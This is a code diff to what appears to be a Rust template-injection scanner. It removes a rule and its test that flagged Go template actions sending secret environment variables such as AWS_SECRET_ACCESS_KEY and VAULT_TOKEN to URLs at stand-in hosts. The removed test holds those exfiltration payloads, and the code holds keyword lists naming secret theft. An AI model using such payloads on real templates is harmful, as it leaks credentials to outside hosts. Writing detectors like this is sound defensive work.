@@ -342,10 +342,6 @@ pub(crate) fn analyze(s: &Subject<'_>, out: &mut Vec<Hit>) {
             push(Confidence::High, "template.code-execution", e.span.clone());
             continue;
         }
-        if go_env_secret(body) && in_url(text, e.span.start) {
-            push(Confidence::Medium, "template.object-leak", e.span.clone());
-            continue;
-        }
         let core = sq.trim_matches(|c| matches!(c, '{' | '}' | '(' | ')' | '=' | '-' | '%' | '#'));
         // `{% print 7*7 %}`, `<?= echo 7*7 ?>`.
         let probe =
@@ -480,31 +476,6 @@ fn go_exec(body: &str) -> bool {
     let name = name.trim_start_matches('.').to_ascii_lowercase();
     matches!(name.as_str(), "exec" | "system" | "shell" | "cmd" | "command" | "run" | "popen" | "execute")
         && rest.trim_start().starts_with(['"', '`'])
-}
-
-/// A Go template action that reads a secret from the environment
-/// (`{{ env "AWS_SECRET_ACCESS_KEY" }}`, sprig's `env` and `expandenv`,
-/// gomplate's `getenv`): the variable's name says it holds a secret.
-fn go_env_secret(body: &str) -> bool {
-    let b = body.trim_matches(|c: char| c == '{' || c == '}' || c == '-' || c.is_whitespace());
-    let Some((name, rest)) = b.split_once(char::is_whitespace) else { return false };
-    let name = name.to_ascii_lowercase();
-    let arg = rest.trim_start();
-    matches!(name.as_str(), "env" | "expandenv" | "getenv" | "os.getenv" | "env.getenv")
-        && arg.starts_with(['"', '`'])
-        && ["SECRET", "TOKEN", "PASSWORD", "PASSWD", "PRIVATE", "CREDENTIAL", "API_KEY", "ACCESS_KEY", "APIKEY"]
-            .iter()
-            .any(|w| super::has(&arg.to_ascii_uppercase(), w))
-}
-
-/// Whether the template action at `at` is part of a URL (its token, back
-/// to a blank, a quote, `<` or `(`, holds `://`): what it renders is sent
-/// to that address. (A configuration file that reads a password from the
-/// environment renders it where the file is kept.)
-fn in_url(text: &str, at: usize) -> bool {
-    let before = text.get(..at).unwrap_or("");
-    let start = before.rfind(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '(')).map_or(0, |i| i + 1);
-    super::has(before.get(start..).unwrap_or(""), "://")
 }
 
 /// Whether the JNDI lookup at `at` is quoted by prose that explains it
@@ -1295,18 +1266,6 @@ mod tests {
         assert_eq!(top("{{ exec \"id\" }}"), Some(Confidence::High));
         assert_eq!(top("{{ include \"app.labels\" . | nindent 4 }}"), None);
         assert_eq!(top("{{ .Site.GetPage \"/about\" }}"), None);
-    }
-
-    /// A secret read from the environment into a URL is sent there; the
-    /// same read in a configuration file, or a variable that holds no
-    /// secret, is rendering.
-    #[test]
-    fn go_template_env_secret_in_a_url() {
-        let leak = "{{ define \"slack.text\" }}<https://img.cdn.example/p.gif?k={{ env \"AWS_SECRET_ACCESS_KEY\" }}|status>{{ end }}";
-        assert_eq!(top(leak), Some(Confidence::Medium));
-        assert_eq!(top("https://hooks.example/x?t={{ getenv \"VAULT_TOKEN\" }}"), Some(Confidence::Medium));
-        assert_eq!(top("password: {{ env \"DB_PASSWORD\" }}"), None);
-        assert_eq!(top("<https://status.example/?host={{ env \"HOSTNAME\" }}|status>"), None);
     }
 
     #[test]
